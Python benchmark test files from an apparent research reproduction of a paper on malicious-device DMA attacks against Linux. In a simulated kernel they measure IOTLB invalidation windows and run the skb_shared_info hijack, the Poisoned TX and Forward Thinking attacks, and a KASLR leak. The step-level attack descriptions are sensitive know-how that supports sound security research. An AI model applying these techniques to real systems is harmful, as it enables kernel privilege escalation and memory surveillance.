"""Benchmark-harness plumbing.

Each benchmark regenerates one table or figure of the paper and
records a :class:`PaperComparison`; all comparisons are dumped into
the terminal summary (and ``benchmarks/results.txt``) so the numbers
land in ``bench_output.txt`` alongside pytest-benchmark's timing
table.
"""

from __future__ import annotations

import os

import pytest

from repro.corpus import CorpusGenerator
from repro.report.tables import PaperComparison

_COMPARISONS: list[PaperComparison] = []


@pytest.fixture()
def record():
    """Record a PaperComparison for the end-of-run summary."""
    def _record(comparison: PaperComparison) -> PaperComparison:
        _COMPARISONS.append(comparison)
        return comparison
    return _record


@pytest.fixture(scope="session")
def corpus():
    return CorpusGenerator(seed=2021).generate()


@pytest.fixture(scope="session")
def spade_results(corpus):
    from repro.core.spade import Spade

    tree, _manifest = corpus
    spade = Spade(tree)
    return spade, spade.analyze()


def pytest_terminal_summary(terminalreporter):
    if not _COMPARISONS:
        return
    lines = ["", "=" * 72,
             "PAPER-VS-MEASURED SUMMARY (one block per experiment)",
             "=" * 72]
    for comparison in _COMPARISONS:
        lines.append("")
        lines.extend(comparison.render().splitlines())
    for line in lines:
        terminalreporter.write_line(line)
    out_path = os.path.join(os.path.dirname(__file__), "results.txt")
    with open(out_path, "w") as handle:
        handle.write("\n".join(lines) + "\n")
