"""Benchmark-harness plumbing.

Each benchmark regenerates one table or figure of the paper and
records a :class:`PaperComparison`; all comparisons are dumped into
the terminal summary (and ``benchmarks/results.txt``) so the numbers
land in ``bench_output.txt`` alongside pytest-benchmark's timing
table.
"""

from __future__ import annotations

import os

import pytest

from repro.corpus import CorpusGenerator
from repro.report.tables import PaperComparison

_COMPARISONS: list[PaperComparison] = []


@pytest.fixture()
def record():
    """Record a PaperComparison for the end-of-run summary."""
    def _record(comparison: PaperComparison) -> PaperComparison:
        _COMPARISONS.append(comparison)
        return comparison
    return _record


@pytest.fixture(scope="session")
def corpus():
    return CorpusGenerator(seed=2021).generate()


@pytest.fixture(scope="session")
def spade_results(corpus):
    from repro.core.spade import Spade

    tree, _manifest = corpus
    spade = Spade(tree)
    return spade, spade.analyze()


@pytest.fixture()
def traced_invalidation():
    """Probe the post-unmap window with the flight recorder watching.

    Returns a callable ``(mode, flush_period_us=None) ->
    (probe_window_ms, InvalidationWindows)``: the same run measured
    two independent ways -- by actively probing device writes until
    they fault (the Figure-6 bench method) and by pairing
    ``iommu/fq_defer``/``fq_drain`` events out of the trace. The
    benches assert the two agree, so drift between the counter path
    and the tracepoint path cannot go unnoticed.
    """
    from repro import trace
    from repro.errors import IommuFault
    from repro.sim.kernel import Kernel

    def _measure(mode: str, flush_period_us=None,
                 probe_step_ms: float = 0.5):
        assert trace.active() is None, \
            "traced_invalidation needs the recorder slot free"
        kwargs = {"iommu_mode": mode}
        if flush_period_us is not None:
            kwargs["flush_period_us"] = flush_period_us
        with trace.session(categories=("iommu", "dma")) as recorder:
            kernel = Kernel(seed=3, phys_mb=128, **kwargs)
            kernel.iommu.attach_device("dev0")
            kva = kernel.slab.kmalloc(512)
            iova = kernel.dma.dma_map_single("dev0", kva, 512,
                                             "DMA_FROM_DEVICE")
            kernel.iommu.device_write("dev0", iova, b"warm")
            kernel.dma.dma_unmap_single("dev0", iova, 512,
                                        "DMA_FROM_DEVICE")
            window_ms = 0.0
            while window_ms < 50.0:
                try:
                    kernel.iommu.device_write("dev0", iova, b"stale")
                except IommuFault:
                    break
                kernel.advance_time_ms(probe_step_ms)
                window_ms += probe_step_ms
        windows = trace.derive_invalidation_windows(recorder.events)
        return window_ms, windows

    return _measure


def pytest_terminal_summary(terminalreporter):
    if not _COMPARISONS:
        return
    lines = ["", "=" * 72,
             "PAPER-VS-MEASURED SUMMARY (one block per experiment)",
             "=" * 72]
    for comparison in _COMPARISONS:
        lines.append("")
        lines.extend(comparison.render().splitlines())
    for line in lines:
        terminalreporter.write_line(line)
    out_path = os.path.join(os.path.dirname(__file__), "results.txt")
    with open(out_path, "w") as handle:
        handle.write("\n".join(lines) + "\n")
