"""E22: the Fig 6/7 exposure re-measured across IOMMU backend models.

The paper characterizes one platform (Intel VT-d). E22 sweeps the
same post-unmap window probe and invalidation-cost measurement over
the four backend models and runs the cross-backend differential that
``campaign --backends`` automates: the vulnerability window is a
property of the *hardware model*, not just of the strict/deferred
software knob.
"""

from repro import backends
from repro.errors import IommuFault
from repro.report.tables import PaperComparison
from repro.sim.kernel import Kernel

BACKEND_NAMES = backends.backend_names()


def boot(backend: str, mode: str | None = None) -> Kernel:
    spec = backends.get_backend(backend)
    kernel = Kernel(seed=3, phys_mb=128,
                    iommu_mode=mode or spec.default_mode,
                    iommu_backend=backend)
    kernel.iommu.attach_device("dev0")
    return kernel


def measure_window_ms(backend: str, mode: str | None = None,
                      probe_step_ms: float = 0.5) -> float:
    """The Fig 6 probe, parameterized by backend model."""
    kernel = boot(backend, mode)
    kva = kernel.slab.kmalloc(512)
    iova = kernel.dma.dma_map_single("dev0", kva, 512,
                                     "DMA_FROM_DEVICE")
    kernel.iommu.device_write("dev0", iova, b"warm")
    kernel.dma.dma_unmap_single("dev0", iova, 512, "DMA_FROM_DEVICE")
    window_ms = 0.0
    while window_ms < 50.0:
        try:
            kernel.iommu.device_write("dev0", iova, b"stale")
        except IommuFault:
            return window_ms
        kernel.advance_time_ms(probe_step_ms)
        window_ms += probe_step_ms
    return window_ms


def unmap_cost_cycles(backend: str, mode: str,
                      nr_ops: int = 64) -> float:
    """Average cycles charged per map/unmap pair (Fig 6 right side)."""
    kernel = boot(backend, mode)
    kva = kernel.slab.kmalloc(512)
    start = kernel.clock.cycles
    for _ in range(nr_ops):
        iova = kernel.dma.dma_map_single("dev0", kva, 512,
                                         "DMA_TO_DEVICE")
        kernel.dma.dma_unmap_single("dev0", iova, 512, "DMA_TO_DEVICE")
    kernel.advance_time_ms(25.0)  # covers every backend's period
    return (kernel.clock.cycles - start) / nr_ops


def test_e22_per_backend_windows(benchmark, record):
    """Each backend's default-mode window tracks its spec."""
    windows = benchmark.pedantic(
        lambda: {name: measure_window_ms(name)
                 for name in BACKEND_NAMES},
        rounds=1, iterations=1)

    comparison = PaperComparison(
        "E22 / Fig 6 across backends: post-unmap window by model")
    for name in BACKEND_NAMES:
        spec = backends.get_backend(name)
        expect = ("none (strict unmaps)" if spec.default_mode == "strict"
                  else f"up to ~{spec.flush_period_us / 1000:.0f} ms")
        comparison.add(f"{name} ({spec.default_mode})", expect,
                       f"{windows[name]:.1f} ms")

    # deferred backends: the window is bounded by the flush cadence
    for name in ("intel-vtd", "arm-smmuv3", "amd-vi"):
        spec = backends.get_backend(name)
        period_ms = spec.flush_period_us / 1000.0
        assert period_ms / 2 <= windows[name] <= period_ms + 0.6
    # AMD's slower drain cadence doubles the VT-d exposure
    assert windows["amd-vi"] > 1.5 * windows["intel-vtd"]
    # virtio-iommu unmaps synchronously: no window at all
    assert windows["virtio-iommu"] == 0.0
    # ...unless forced into deferred mode, where its 10 ms cadence
    # reopens the same exposure
    forced = measure_window_ms("virtio-iommu", mode="deferred")
    assert 5.0 <= forced <= 10.5
    comparison.add("virtio-iommu forced deferred",
                   "window reopens", f"{forced:.1f} ms")
    record(comparison)


def test_e22_invalidation_costs(record):
    """Strict-mode unmap cost ranks by the spec's invalidation price;
    deferred drains amortize it except at page granularity."""
    strict = {name: unmap_cost_cycles(name, "strict")
              for name in BACKEND_NAMES}
    deferred = {name: unmap_cost_cycles(name, "deferred")
                for name in BACKEND_NAMES}

    comparison = PaperComparison(
        "E22b: invalidation cost per unmap across backends")
    for name in BACKEND_NAMES:
        spec = backends.get_backend(name)
        comparison.add(f"{name} strict",
                       f"~{spec.invalidation_cycles} cycles",
                       f"{strict[name]:.0f} cycles")
        comparison.add(f"{name} deferred (amortized)",
                       "per-page only on virtio",
                       f"{deferred[name]:.0f} cycles")

    # strict cost ordering follows the per-model invalidation price:
    # vmexit-priced virtio >> AMD > Intel > ARM
    assert strict["virtio-iommu"] > strict["amd-vi"] > \
        strict["intel-vtd"] > strict["arm-smmuv3"]
    for name in BACKEND_NAMES:
        assert strict[name] >= backends.get_backend(name).invalidation_cycles
    # domain/range drains amortize to far below the sync cost...
    for name in ("intel-vtd", "arm-smmuv3", "amd-vi"):
        assert deferred[name] <= strict[name] / 10
    # ...but page-granular drains still pay the price per page, so
    # deferring buys virtio-iommu almost nothing
    assert deferred["virtio-iommu"] >= strict["virtio-iommu"] / 2
    record(comparison)


def test_e22_cross_backend_differential(record):
    """One campaign seed diffed across backends: the window oracle
    disagrees between deferred and strict models."""
    from repro.campaign import cross_backend_disagreements
    from repro.campaign.runner import run_seed

    records = {name: {1: run_seed(1, mutations_per_seed=2, scale=0.06,
                                  trace_events=0, backend=name)}
               for name in ("arm-smmuv3", "virtio-iommu")}
    cross = cross_backend_disagreements(records)

    comparison = PaperComparison(
        "E22c: cross-backend differential (arm-smmuv3 vs virtio-iommu)")
    open_sites = sum(
        1 for v in records["arm-smmuv3"][1]["window_sites"].values() if v)
    comparison.add("arm-smmuv3 open window sites",
                   "most replay sites exposed", open_sites)
    comparison.add("virtio-iommu open window sites", "none (strict)",
                   sum(1 for v in
                       records["virtio-iommu"][1]["window_sites"].values()
                       if v))
    comparison.add("backend-dependent disagreements",
                   ">= 1 (the new oracle outcome)", len(cross))
    assert open_sites >= 1
    assert not any(records["virtio-iommu"][1]["window_sites"].values())
    assert len(cross) >= 1
    assert all(c["kind"] == "backend-window" for c in cross)
    record(comparison)
