"""E3 (Figure 2): SPADE's trace output for the nvme_fc driver."""

from repro.core.spade.report import format_finding_trace
from repro.report.tables import PaperComparison


def test_fig2_nvme_fc_trace(benchmark, spade_results, record):
    spade, findings = spade_results

    def trace_nvme():
        nvme = [f for f in findings
                if f.file == "drivers/nvme/host/fc.c"]
        return [format_finding_trace(f) for f in nvme], nvme

    traces, nvme = benchmark(trace_nvme)
    direct = next(f for f in nvme if f.mapped_expr == "& op -> rsp_iu")

    comparison = PaperComparison(
        "E3 / Figure 2: SPADE output for nvme_fc (&op->rsp_iu)")
    comparison.add("exposed callback pointers", 1,
                   direct.direct_callbacks)
    comparison.add("exposed callback name", "fcp_req.done",
                   ", ".join(direct.direct_callback_names))
    comparison.add("spoofable callback pointers", 931,
                   direct.spoofable_callbacks)
    comparison.add("trace is recursive decl/assignment chain", "yes",
                   "yes" if len(direct.trace) >= 3 else "no")
    assert direct.direct_callbacks == 1
    assert direct.spoofable_callbacks == 931
    record(comparison)
    for trace in traces:
        print(trace)
        print()
