"""E4 (Figure 3): D-KASAN report under the compile+ping workload."""

from repro.core.dkasan import DKasan, format_sample_lines
from repro.report.tables import PaperComparison
from repro.sim.kernel import Kernel
from repro.sim.workload import run_compile_and_ping


def test_fig3_dkasan_report(benchmark, record):
    def run_workload():
        dkasan = DKasan(256 << 20)
        kernel = Kernel(seed=9, phys_mb=256, sink=dkasan)
        nic = kernel.add_nic("eth0")
        stats = run_compile_and_ping(kernel, nic, rounds=40)
        return dkasan, kernel, stats

    dkasan, kernel, stats = benchmark.pedantic(run_workload, rounds=1,
                                               iterations=1)
    counts = dkasan.summary_counts()
    comparison = PaperComparison(
        "E4 / Figure 3: D-KASAN under compile+ping")
    comparison.add("workload", "git clone + compile + ICMP ping",
                   f"{stats.allocations} compile-path allocs + "
                   f"{stats.pings} pings")
    comparison.add("random exposures found", "numerous cases",
                   f"{len(dkasan.events)} events")
    for kind in ("alloc-after-map", "map-after-alloc",
                 "access-after-map", "multiple-map"):
        comparison.add(f"  {kind} events", "detected (kind defined "
                       "in sec 4.2)", counts.get(kind, 0))
        assert counts.get(kind, 0) > 0, kind
    double = [e for e in dkasan.events_of("multiple-map")
              if e.perms == ("READ", "WRITE")]
    comparison.add("READ+WRITE double mapping (Fig 3 line 1)",
                   "size 512 [READ, WRITE] __alloc_skb",
                   double[0].render() if double else "none")
    assert double, "expected an innocent READ+WRITE double mapping"
    comparison.add("callback-bearing objects exposed (Fig 3 line 5)",
                   "assoc_array_insert 328 B",
                   next((e.render() for e in dkasan.events
                         if e.site.function == "assoc_array_insert"),
                        "none"))
    comparison.note("per-line format matches Figure 3: "
                    "size / [perms] / site+off/len")
    record(comparison)
    print("\n".join(format_sample_lines(dkasan.events, limit=10)))
