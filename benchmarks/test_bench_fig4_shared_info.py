"""E5 (Figure 4): the four-step skb_shared_info hijack."""

from repro.core.attacks.device import AttackerKnowledge, MaliciousDevice
from repro.core.attacks.shared_info import execute_hijack, plan_hijack
from repro.core.attacks.window import open_rx_window
from repro.net.proto import PROTO_UDP, make_packet
from repro.report.tables import PaperComparison
from repro.sim.kernel import Kernel


def test_fig4_shared_info_hijack(benchmark, record):
    def full_flow():
        # Figure 4 presents the hijack mechanism with the buffer KVA
        # assumed known (the compound attacks obtain it; benched
        # separately), so attribute 1 is granted here.
        kernel = Kernel(seed=31, phys_mb=256)
        nic = kernel.add_nic("eth0")
        device = MaliciousDevice(
            kernel.iommu, "eth0",
            AttackerKnowledge.from_public_build(kernel.image))
        device.knowledge.text_base = kernel.addr_space.text_base
        ring = nic.rx_rings[0]
        desc = ring.next_for_device()
        buffer_kva = desc.kva  # attribute 1, assumed known in Fig 4
        packet = make_packet(dst_ip=0x0A00_0001, dst_port=9999,
                             proto=PROTO_UDP, payload=b"\x00" * 64)
        window = open_rx_window(kernel, nic, device, packet)
        plan = plan_hijack(buffer_kva, nic.rx_buf_size)
        paths = execute_hijack(window, plan)      # steps (b)+(c)
        kernel.stack.process_backlog()            # step (d): release
        return kernel, paths

    kernel, paths = benchmark.pedantic(full_flow, rounds=1, iterations=1)
    comparison = PaperComparison(
        "E5 / Figure 4: skb_shared_info exploitation steps")
    comparison.add("(a) RX buffer mapped WRITE incl. shared info",
                   "yes", "yes")
    comparison.add("(b) device overwrites destructor_arg", "yes",
                   f"yes (via path {paths})")
    comparison.add("(c) fake ubuf_info + poisoned stack in buffer",
                   "yes", "yes")
    comparison.add("(d) callback invoked on skb release -> code exec",
                   "arbitrary code in kernel context",
                   f"escalated={kernel.executor.creds.is_root}")
    assert kernel.executor.creds.is_root
    record(comparison)
