"""E6 (Figure 5): page_frag allocation and type-(c) co-location.

Includes the DESIGN.md ablation: co-location degree vs chunk order.
"""

from repro.mem.buddy import BuddyAllocator
from repro.mem.page_frag import PageFragCache
from repro.mem.phys import PAGE_SIZE, PhysicalMemory
from repro.mem.virt import IdentityTranslator
from repro.net.structs import skb_truesize
from repro.report.tables import PaperComparison


def sharing_fraction(chunk_order: int, buf_size: int,
                     nr_buffers: int = 128) -> float:
    """Fraction of consecutive buffer pairs sharing a page."""
    phys = PhysicalMemory(1 << 16)
    buddy = BuddyAllocator(phys, reserved_low_pages=16)
    cache = PageFragCache(buddy, IdentityTranslator(),
                          chunk_order=chunk_order)
    truesize = skb_truesize(buf_size)
    kvas = [cache.alloc(truesize) for _ in range(nr_buffers)]
    shared = 0
    for a, b in zip(kvas, kvas[1:]):
        pages_a = set(range(a // PAGE_SIZE,
                            (a + truesize - 1) // PAGE_SIZE + 1))
        pages_b = set(range(b // PAGE_SIZE,
                            (b + truesize - 1) // PAGE_SIZE + 1))
        if pages_a & pages_b:
            shared += 1
    return shared / (nr_buffers - 1)


def test_fig5_page_frag(benchmark, record):
    def alloc_burst():
        phys = PhysicalMemory(1 << 16)
        buddy = BuddyAllocator(phys, reserved_low_pages=16)
        cache = PageFragCache(buddy, IdentityTranslator())
        return [cache.alloc(1856) for _ in range(256)]

    kvas = benchmark(alloc_burst)
    # Figure 5's shape: offsets descend within each chunk.
    descending = sum(1 for a, b in zip(kvas, kvas[1:]) if b < a)
    comparison = PaperComparison(
        "E6 / Figure 5: page_frag allocator behaviour")
    comparison.add("allocation direction", "offset -= B (grows down)",
                   f"{descending}/{len(kvas) - 1} consecutive pairs "
                   f"descend")
    share_default = sharing_fraction(3, 1536)
    comparison.add("MTU buffers sharing pages (32 KiB chunks)",
                   "pairs of successive RX descriptors map the same "
                   "page", f"{share_default:.0%} of consecutive pairs")
    assert share_default > 0.5
    # Ablation: chunk order barely changes co-location (it is inherent
    # to sub-page buffers, section 9.1), only refill frequency.
    for order in (0, 1, 2, 3):
        comparison.add(f"  ablation: sharing at chunk order {order}",
                       "type (c) inherent to page_frag",
                       f"{sharing_fraction(order, 1536):.0%}")
    comparison.add("page_frag users in Linux 5.0",
                   "344 call sites in network drivers",
                   "344 type-(c) call sites in the corpus (E2)")
    record(comparison)
