"""E7 (Figure 6): strict vs deferred IOTLB invalidation.

Measures the post-unmap access window and the invalidation overhead,
with the DESIGN.md ablation over the deferred flush period.
"""

from repro.errors import IommuFault
from repro.iommu.iotlb import (IOTLB_INVALIDATION_CYCLES,
                               TLB_INVALIDATION_CYCLES)
from repro.report.tables import PaperComparison
from repro.sim.kernel import Kernel


def measure_window_ms(mode: str, flush_period_us=None,
                      probe_step_ms=0.5) -> float:
    """How long after unmap the device can still write, in ms."""
    kwargs = {"iommu_mode": mode}
    if flush_period_us is not None:
        kwargs["flush_period_us"] = flush_period_us
    kernel = Kernel(seed=3, phys_mb=128, **kwargs)
    kernel.iommu.attach_device("dev0")
    kva = kernel.slab.kmalloc(512)
    iova = kernel.dma.dma_map_single("dev0", kva, 512,
                                     "DMA_FROM_DEVICE")
    kernel.iommu.device_write("dev0", iova, b"warm")
    kernel.dma.dma_unmap_single("dev0", iova, 512, "DMA_FROM_DEVICE")
    window_ms = 0.0
    while window_ms < 50.0:
        try:
            kernel.iommu.device_write("dev0", iova, b"stale")
        except IommuFault:
            return window_ms
        kernel.advance_time_ms(probe_step_ms)
        window_ms += probe_step_ms
    return window_ms


def unmap_cost_cycles(mode: str, nr_ops: int = 64) -> float:
    """Average invalidation cycles charged per map/unmap pair."""
    kernel = Kernel(seed=3, phys_mb=128, iommu_mode=mode)
    kernel.iommu.attach_device("dev0")
    kva = kernel.slab.kmalloc(512)
    start = kernel.clock.cycles
    for _ in range(nr_ops):
        iova = kernel.dma.dma_map_single("dev0", kva, 512,
                                         "DMA_TO_DEVICE")
        kernel.dma.dma_unmap_single("dev0", iova, 512, "DMA_TO_DEVICE")
    kernel.advance_time_ms(10.5)  # let deferred mode flush once
    return (kernel.clock.cycles - start) / nr_ops


def test_fig6_invalidation(benchmark, record):
    strict_window = benchmark.pedantic(
        lambda: measure_window_ms("strict"), rounds=1, iterations=1)
    deferred_window = measure_window_ms("deferred")

    comparison = PaperComparison(
        "E7 / Figure 6: strict vs deferred IOTLB invalidation")
    comparison.add("strict: post-unmap window", "none",
                   f"{strict_window:.1f} ms")
    comparison.add("deferred: post-unmap window",
                   "up to ~10 ms", f"~{deferred_window:.1f} ms")
    assert strict_window == 0.0
    assert 5.0 <= deferred_window <= 10.5

    strict_cost = unmap_cost_cycles("strict")
    deferred_cost = unmap_cost_cycles("deferred")
    comparison.add("strict invalidation cost per unmap",
                   "~2000 cycles", f"{strict_cost:.0f} cycles")
    comparison.add("deferred cost per unmap (amortized)",
                   "amortized to ~0", f"{deferred_cost:.0f} cycles")
    comparison.add("IOTLB vs CPU TLB invalidation cost",
                   "2000 vs ~100 cycles",
                   f"{IOTLB_INVALIDATION_CYCLES} vs "
                   f"{TLB_INVALIDATION_CYCLES} cycles")
    assert strict_cost >= 10 * deferred_cost

    # Ablation: the window tracks the flush period directly.
    for period_ms in (1.0, 5.0, 10.0, 20.0):
        window = measure_window_ms("deferred",
                                   flush_period_us=period_ms * 1000)
        comparison.add(f"  ablation: window @ {period_ms:.0f} ms flush",
                       "scales with flush period",
                       f"{window:.1f} ms")
        assert window <= period_ms + 0.6
    record(comparison)


def test_fig6_trace_derived_window(traced_invalidation, record):
    """The flight recorder recomputes Figure 6 from events alone.

    ``iommu/fq_defer`` -> ``fq_drain`` gaps in the trace must agree
    with the probe-derived window (within one probe step), and strict
    mode must show only zero-width synchronous invalidations.
    """
    comparison = PaperComparison(
        "E7c / Figure 6 cross-check: trace-derived window")
    probe_ms, windows = traced_invalidation("deferred")
    assert windows.nr_windows >= 1
    assert windows.nr_unpaired == 0
    assert abs(windows.max_ms - probe_ms) <= 0.6
    comparison.add("deferred window, probe vs trace",
                   "identical (two measurement paths)",
                   f"{probe_ms:.1f} ms vs {windows.max_ms:.1f} ms")

    strict_probe_ms, strict_windows = traced_invalidation("strict")
    assert strict_probe_ms == 0.0
    assert strict_windows.nr_sync >= 1
    assert strict_windows.max_ms == 0.0
    comparison.add("strict window, probe vs trace",
                   "both zero",
                   f"{strict_probe_ms:.1f} ms vs "
                   f"{strict_windows.max_ms:.1f} ms "
                   f"({strict_windows.nr_sync} sync invalidations)")

    # The ablation sweep agrees too: the trace window tracks the
    # flush period exactly as the probe does.
    for period_ms in (1.0, 5.0, 20.0):
        probe, traced = traced_invalidation(
            "deferred", flush_period_us=period_ms * 1000)
        assert abs(traced.max_ms - probe) <= 0.6
        comparison.add(f"  ablation @ {period_ms:.0f} ms flush",
                       "probe == trace",
                       f"{probe:.1f} ms vs {traced.max_ms:.1f} ms")
    record(comparison)


def test_sec521_page_reuse(benchmark, record):
    """Section 5.2.1's second consequence: the freed page is reused by
    the OS while the device still holds a stale translation."""
    from repro.core.attacks.ringflood import make_attacker
    from repro.core.attacks.stale_reuse import run_stale_reuse

    def run_both():
        results = {}
        for mode in ("deferred", "strict"):
            kernel = Kernel(seed=71, phys_mb=256, iommu_mode=mode)
            device = make_attacker(kernel, "dma0")
            results[mode] = run_stale_reuse(kernel, device)
        return results

    results = benchmark.pedantic(run_both, rounds=1, iterations=1)
    comparison = PaperComparison(
        "E7b / sec 5.2.1: hot-page reuse through a stale entry")
    deferred, strict = results["deferred"], results["strict"]
    comparison.add("freed I/O page reused by the next slab refill",
                   "Linux reuses hot pages", f"deferred: "
                   f"{deferred.page_reused}, strict: {strict.page_reused}")
    comparison.add("never-mapped kernel object corrupted (deferred)",
                   "random exposure attacks", deferred.victim_corrupted)
    comparison.add("same write under strict invalidation",
                   "window closed", "faulted" if strict.write_faulted
                   else "landed")
    assert deferred.victim_corrupted
    assert strict.write_faulted and not strict.victim_corrupted
    record(comparison)
