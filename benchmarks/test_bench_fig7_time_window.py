"""E8 (Figure 7): the three paths to a post-init write window.

Sweeps driver unmap order x IOMMU mode and reports which path (if any)
lets the device rewrite an initialized skb_shared_info -- including
the DESIGN.md ablation of the i40e-style ordering bug.
"""

from repro.core.attacks.device import AttackerKnowledge, MaliciousDevice
from repro.core.attacks.window import (BufferWriteWindow, open_rx_window)
from repro.net.proto import PROTO_UDP, make_packet
from repro.net.structs import skb_shared_info_offset, skb_truesize
from repro.report.tables import PaperComparison
from repro.sim.kernel import Kernel


def probe_paths(iommu_mode: str, unmap_order: str,
                attempts: int = 6) -> set[str]:
    """Which Figure-7 paths can rewrite the shared info post-init."""
    kernel = Kernel(seed=17, phys_mb=256, iommu_mode=iommu_mode,
                    boot_jitter_pages=0, boot_jitter_blocks=0)
    nic = kernel.add_nic("eth0", unmap_order=unmap_order)
    device = MaliciousDevice(
        kernel.iommu, "eth0",
        AttackerKnowledge.from_public_build(kernel.image))
    info_off = skb_shared_info_offset(nic.rx_buf_size)
    paths: set[str] = set()

    if unmap_order == "skb_first":
        def race(skb, desc):
            window = BufferWriteWindow(device, desc.iova,
                                       skb_truesize(nic.rx_buf_size),
                                       mapping_live=True)
            resolved = window.resolve(info_off + 40, 8)
            if resolved:
                paths.add(resolved[0])
        nic.rx_race_hook = race

    for i in range(attempts):
        packet = make_packet(dst_ip=0x0A00_0001, dst_port=9999,
                             proto=PROTO_UDP, flow_id=i,
                             payload=b"\x00" * 32)
        window = open_rx_window(kernel, nic, device, packet)
        resolved = window.resolve(info_off + 40, 8)
        if resolved:
            paths.add(resolved[0])
        kernel.stack.process_backlog()
    return paths


def test_fig7_time_window(benchmark, record):
    results = benchmark.pedantic(
        lambda: {
            ("skb_first", "deferred"): probe_paths("deferred",
                                                   "skb_first"),
            ("unmap_first", "deferred"): probe_paths("deferred",
                                                     "unmap_first"),
            ("unmap_first", "strict"): probe_paths("strict",
                                                   "unmap_first"),
            ("skb_first", "strict"): probe_paths("strict", "skb_first"),
        }, rounds=1, iterations=1)

    comparison = PaperComparison(
        "E8 / Figure 7: paths to the modification window")
    comparison.add("(i) buggy order (build skb, then unmap)",
                   "device undoes CPU changes via live mapping",
                   sorted(results[("skb_first", "deferred")]))
    comparison.add("(ii) correct order + deferred (Linux default)",
                   "stale IOTLB entry keeps working",
                   sorted(results[("unmap_first", "deferred")]))
    comparison.add("(iii) correct order + strict",
                   "neighbour buffer's IOVA reaches the same page",
                   sorted(results[("unmap_first", "strict")]))
    comparison.add("buggy order + strict",
                   "path (i) unaffected by IOTLB policy",
                   sorted(results[("skb_first", "strict")]))
    assert "i" in results[("skb_first", "deferred")]
    assert "ii" in results[("unmap_first", "deferred")]
    assert results[("unmap_first", "strict")] == {"iii"}
    assert "i" in results[("skb_first", "strict")]
    comparison.note("a window exists in EVERY configuration -- the "
                    "paper's point that strict mode 'does not alleviate "
                    "the security threats'")
    record(comparison)


def test_fig7_trace_cross_check(record):
    """The flight recorder sees Figure 7's mechanisms directly.

    Path (ii) is *made of* stale IOTLB hits, so a traced run of the
    deferred/unmap_first probe must log ``iommu/stale_hit`` events and
    open flush-queue windows; the strict run must instead log only
    synchronous (zero-width) invalidations.
    """
    from repro import trace

    with trace.session(categories=("iommu",)) as recorder:
        kernel = Kernel(seed=17, phys_mb=256, iommu_mode="deferred",
                        boot_jitter_pages=0, boot_jitter_blocks=0)
        nic = kernel.add_nic("eth0", unmap_order="unmap_first")
        device = MaliciousDevice(
            kernel.iommu, "eth0",
            AttackerKnowledge.from_public_build(kernel.image))
        info_off = skb_shared_info_offset(nic.rx_buf_size)
        packet = make_packet(dst_ip=0x0A00_0001, dst_port=9999,
                             proto=PROTO_UDP, flow_id=0,
                             payload=b"\x00" * 32)
        window = open_rx_window(kernel, nic, device, packet)
        used = window.write(info_off + 40, b"\x00" * 8)
    assert "ii" in used
    stale = trace.stale_access_count(recorder.events)
    windows = trace.derive_invalidation_windows(recorder.events)
    assert stale >= 1
    assert windows.nr_windows + windows.nr_unpaired >= 1
    assert windows.nr_sync == 0

    with trace.session(categories=("iommu",)) as recorder:
        strict_paths = probe_paths("strict", "unmap_first")
    assert strict_paths == {"iii"}
    strict_windows = trace.derive_invalidation_windows(recorder.events)
    assert strict_windows.nr_sync >= 1
    assert strict_windows.max_ms == 0.0
    assert trace.stale_access_count(recorder.events) == 0

    comparison = PaperComparison(
        "E8b / Figure 7 cross-check: tracepoints see the mechanisms")
    comparison.add("path (ii) stale IOTLB hits in the trace",
                   ">= 1", stale)
    comparison.add("strict run synchronous invalidations",
                   ">= 1, zero-width", strict_windows.nr_sync)
    record(comparison)
