"""E10 (Figure 8, section 5.4): the Poisoned TX compound attack."""

from repro.core.attacks.poisoned_tx import run_poisoned_tx
from repro.core.attacks.ringflood import make_attacker
from repro.report.tables import PaperComparison
from repro.sim.kernel import Kernel


def test_fig8_poisoned_tx(benchmark, record):
    def attack():
        victim = Kernel(seed=41, boot_index=8812, phys_mb=512)
        nic = victim.add_nic("eth0")
        device = make_attacker(victim, "eth0")
        report = run_poisoned_tx(victim, nic, device)
        return victim, device, report

    victim, device, report = benchmark.pedantic(attack, rounds=1,
                                                iterations=1)
    comparison = PaperComparison(
        "E10 / Figure 8: Poisoned TX compound attack")
    comparison.add("KVA source",
                   "struct page ptr read from TX skb_shared_info",
                   report.attributes.malicious_buffer_kva.how[:48])
    comparison.add("prior physical-layout knowledge needed", "none",
                   "none (boot_index chosen arbitrarily)")
    comparison.add("TX completion delayed to keep buffer alive", "yes",
                   "yes (within the driver's T/O)")
    comparison.add("blob KVA exact",
                   "required for the chain to fire",
                   f"yes ({report.ubuf_kva:#x})")
    comparison.add("privilege escalation", "arbitrary kernel code",
                   f"uid {victim.executor.creds.uid} "
                   f"(escalated={report.escalated})")
    comparison.add("victim stability", "no crash",
                   f"{victim.stack.stats.oopses} oopses")
    assert report.escalated
    assert victim.stack.stats.oopses == 0
    assert report.attributes.complete
    record(comparison)
    for line in report.stage_log:
        print(line)
