"""E11 (Figure 9, section 5.5): Forward Thinking + surveillance."""

from repro.core.attacks.forward import run_forward_thinking
from repro.core.attacks.kaslr_leak import break_kaslr_via_tx
from repro.core.attacks.ringflood import make_attacker
from repro.core.attacks.surveillance import read_arbitrary_pages
from repro.report.tables import PaperComparison
from repro.sim.kernel import Kernel


def test_fig9_forward_thinking(benchmark, record):
    def attack():
        victim = Kernel(seed=51, boot_index=77, phys_mb=512,
                        forwarding=True)
        nic = victim.add_nic("eth0")
        device = make_attacker(victim, "eth0")
        report = run_forward_thinking(victim, nic, device)
        return victim, device, report

    victim, device, report = benchmark.pedantic(attack, rounds=1,
                                                iterations=1)
    comparison = PaperComparison(
        "E11 / Figure 9: Forward Thinking compound attack")
    comparison.add("GRO converts linear RX to frags-bearing TX", "yes",
                   "yes (frag struct-page leak observed)")
    comparison.add("vmemmap base recovered from GRO frag leak", "yes",
                   f"{device.knowledge.vmemmap_base:#x}" if
                   device.knowledge.vmemmap_base else "no")
    comparison.add("KASLR fully broken via surveillance", "arbitrary "
                   "page reads", "yes" if device.knowledge.kaslr_broken
                   else "no")
    comparison.add("privilege escalation", "arbitrary kernel code",
                   f"escalated={report.escalated}")
    comparison.add("victim stability", "no crash (frags spoof undone)",
                   f"{victim.stack.stats.oopses} oopses")
    assert report.escalated
    assert victim.stack.stats.oopses == 0
    record(comparison)

    # The surveillance variant: "persistent surveillance rather than
    # overtaking the machine ... READ access to any page in the system".
    surv_victim = Kernel(seed=52, boot_index=3, phys_mb=512,
                         forwarding=True)
    surv_nic = surv_victim.add_nic("eth0")
    surv_device = make_attacker(surv_victim, "eth0")
    assert break_kaslr_via_tx(surv_victim, surv_nic, surv_device)
    if surv_device.knowledge.vmemmap_base is None:
